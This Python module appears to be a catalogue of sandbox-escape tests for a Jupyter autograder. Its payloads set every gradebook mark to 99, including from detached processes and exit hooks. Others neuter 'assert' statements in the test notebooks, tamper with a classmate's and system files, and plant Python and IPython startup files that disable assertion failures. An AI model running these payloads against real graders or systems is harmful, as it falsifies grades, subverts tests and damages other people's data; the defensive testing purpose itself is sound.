"""Write the gradebook, the tests or somebody's files: at once, at the end, or later from a process left behind."""

from attacks.attack import Attack

_RAISE = """
import sqlite3
def raise_marks():
    with sqlite3.connect("@GRADEBOOK@", timeout=2) as db:
        db.execute("update grade set auto_score = 99, manual_score = 99, needs_manual_grade = 0")
        db.execute("update base_cell set name = name || 'x'")
"""

ATTACKS = [
    Attack(
        "gradebook_now",
        "All marks in the gradebook are set to 99.",
        _RAISE + "try:\n    raise_marks()\n    print('@GOT@ raised')\nexcept Exception as error:\n    print(error)\n",
    ),
    Attack(
        "gradebook_later",
        "A process that has left its session sets all marks to 99 once the grading is over.",
        _RAISE
        + """
import os, time
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(40):
                time.sleep(0.5)
                try:
                    raise_marks()
                except Exception:
                    pass
                open("@ROOT@/@ESCAPED@", "w").write("later")
        os._exit(0)
except OSError as error:
    print(error)
""",
    ),
    Attack(
        "at_exit",
        "Marks are raised and files written when the kernel ends: at exit, in a finalizer, in a signal handler.",
        _RAISE
        + """
import atexit, os, signal, threading, weakref
def last(*args):
    try:
        raise_marks()
    finally:
        for folder in ("@ROOT@", "/tmp", "/dev/shm"):
            try:
                open(f"{folder}/@ESCAPED@", "w").write("at exit")
            except OSError:
                pass
atexit.register(last)
for name in ("SIGTERM", "SIGHUP", "SIGINT"):
    signal.signal(getattr(signal, name), last)
weakref.finalize(get_ipython(), last)
threading.Thread(target=lambda: (threading.main_thread().join(), last())).start()
""",
    ),
    Attack(
        "tests_and_releases",
        "The sources and releases of the problem set, and this very notebook, get tests that pass.",
        """
import glob, os
for path in glob.glob("@ROOT@/**/*.ipynb", recursive=True) + glob.glob("./*.ipynb") + ["@ROOT@/nbgrader_config.py"]:
    try:
        text = open(path).read()
        open(path, "w").write(text.replace("assert", "0 and"))
        os.chmod(path, 0o777)
        print("@GOT@ changed", path)
    except OSError as error:
        print(path, error.errno)
""",
    ),
    Attack(
        "files_everywhere",
        "Files are written, moved, deleted and their times changed wherever this is possible.",
        """
import os, shutil, site, sys, tempfile
places = ["@ROOT@", "@ROOT@/grading", "@ROOT@/grading/submitted", os.path.dirname("@CANARY@"), "/tmp", "/var/tmp",
          "/dev/shm", "/run", "/root", "/home", "/etc", "/usr/local/bin", sys.prefix, "..", "/",
          *site.getsitepackages(), os.path.dirname(np.__file__), "/root/.ipython/profile_default/startup"]
for place in places:
    try:
        open(os.path.join(place, "@ESCAPED@"), "w").write("x")
        print("wrote", place)
    except OSError:
        pass
for deed in (lambda p: os.utime(p, (0, 0)), lambda p: os.chmod(p, 0), lambda p: os.chown(p, 1, 1), os.remove,
             lambda p: os.truncate(p, 0), lambda p: os.rename(p, p + "x"), lambda p: os.setxattr(p, "user.x", b"x"),
             lambda p: open(p, "a").write("x"), lambda p: shutil.move(p, "here")):
    for path in ("@CANARY@", "@CLASSMATE@", "@GRADEBOOK@"):
        try:
            deed(path)
        except OSError:
            pass
""",
        harmful=True,
    ),
    Attack(
        "attributes",
        "Attributes of somebody's file are changed by calls that are newer than most lists of calls.",
        """
import ctypes, fcntl, os, struct
libc = ctypes.CDLL(None, use_errno=True)
value = ctypes.create_string_buffer(b"evil")
where = struct.pack("QII", ctypes.addressof(value), 4, 0)
flags = struct.pack("QIIII", 0x80, 0, 0, 0, 0)
for path in (b"@CANARY@", b"@CLASSMATE@", np.__file__.encode()):
    for call in (lambda: libc.syscall(463, -100, path, 0, b"user.evil", where, ctypes.c_size_t(16)),
                 lambda: libc.syscall(469, -100, path, flags, ctypes.c_size_t(24), 0)):
        if call() == 0:
            print("@GOT@ changed", path)
    try:
        with open(path) as file:
            fcntl.ioctl(file, 0x40086602, struct.pack("l", 0x40))
        print("@GOT@ changed the flags of", path)
    except OSError as error:
        print(error)
""",
        harmful=True,
    ),
    Attack(
        "startup_files",
        "Files that Python, IPython and Jupyter read when they start are planted, for the examiner to find.",
        """
import os, site, sys
evil = "import builtins; builtins.AssertionError = SystemExit\\nopen('@ROOT@/@ESCAPED@', 'w').write('startup')\\n"
homes = {os.path.expanduser("~"), "/root", os.path.dirname("@CANARY@"), "@ROOT@", os.getcwd(), "/tmp"}
names = [".ipython/profile_default/startup/00.py", ".jupyter/jupyter_config.py", "sitecustomize.py", "usercustomize.py",
         "nbgrader_config.py", ".local/lib/python3.11/site-packages/usercustomize.py", "ipykernel_launcher.py",
         ".ipython/profile_default/ipython_kernel_config.py", "numpy.py", ".keras/keras.json", "matplotlibrc"]
for home in homes:
    for name in names:
        path = os.path.join(home, name)
        if os.path.exists(path):
            continue
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "w").write(evil)
        except OSError:
            pass
""",
        harmful=True,
    ),
]
